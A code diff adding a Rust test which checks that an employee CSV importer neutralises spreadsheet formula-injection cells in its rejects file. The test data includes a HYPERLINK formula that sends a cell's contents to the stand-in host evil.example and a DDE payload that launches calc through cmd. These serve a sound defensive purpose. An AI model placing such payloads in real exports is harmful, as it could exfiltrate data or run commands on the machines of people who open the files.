@@ -525,3 +525,48 @@ async fn a_page_upload_imports_in_the_background_and_its_job_page_shows_the_repo
         .unwrap();
     assert_eq!(status, "failed");
 }
+
+#[tokio::test]
+async fn the_rejects_file_neutralises_cells_a_spreadsheet_would_run_as_formulas() {
+    let app = TestApp::empty().await;
+    organisation(&app.db).await;
+    let csv = "employee_id,email,given_name,family_name,hire_date\n\
+               E1,ada@example.com,Ada,Lovelace,2015-03-01\n\
+               E2,grace@example.com,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",@SUM(A1),yesterday\n\
+               E3,-1,+cmd|' /C calc'!A0,-42,2015-13-01\n";
+
+    let report = import::run(
+        &app.db,
+        Kind::People,
+        csv.as_bytes(),
+        Actor::System,
+        Options { keep_clean: true },
+        &import::quiet,
+    )
+    .await
+    .unwrap();
+
+    assert_eq!((report.inserted, report.rejected), (1, 2));
+    let rejects = report.rejects_csv.unwrap();
+    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(rejects.as_bytes())
+        .records()
+        .map(Result::unwrap)
+        .collect();
+    assert_eq!(
+        &rows[0].iter().take(4).collect::<Vec<_>>(),
+        &[
+            "E2",
+            "grace@example.com",
+            "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+            "'@SUM(A1)"
+        ]
+    );
+    assert_eq!(
+        &rows[1].iter().take(4).collect::<Vec<_>>(),
+        &["E3", "-1", "'+cmd|' /C calc'!A0", "-42"],
+        "plain negative numbers stay numbers"
+    );
+    for cell in rows.iter().flat_map(|r| r.iter()) {
+        assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
+    }
+}
